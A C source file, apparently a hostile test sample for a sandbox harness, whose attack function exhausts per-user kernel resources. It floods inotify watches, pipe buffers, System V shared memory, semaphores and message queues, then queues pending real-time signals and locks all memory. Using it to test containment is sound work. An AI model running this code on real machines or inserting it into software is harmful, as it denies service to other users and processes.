/* Takes all that the kernel counts for a user: watches, pipes' pages, pending signals, locked memory, queues, keys. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <mqueue.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <unistd.h>
#include "hostile.h"

static void attack(unsigned char choice) {
    (void)choice;
    for (int i = 0; i < 300; i++) {
        int both[2], watch = inotify_init();
        for (int j = 0; watch >= 0 && j < 50; j++) {
            inotify_add_watch(watch, j % 2 ? "/usr" : "/etc", IN_ACCESS << (j / 2 % 12));
        }
        if (pipe(both) == 0) {
            fcntl(both[1], F_SETPIPE_SZ, 1 << 20);
        }
        shmget(IPC_PRIVATE, 64 << 20, IPC_CREAT | 0600);
        semget(IPC_PRIVATE, 100, IPC_CREAT | 0600);
        msgget(IPC_PRIVATE, IPC_CREAT | 0600);
    }
    signal(SIGRTMIN, SIG_IGN);
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    for (int i = 0; i < 100000; i++) {
        if (sigqueue(getpid(), SIGRTMIN, (union sigval){i})) {
            break;
        }
    }
    mlockall(MCL_CURRENT | MCL_FUTURE);
}
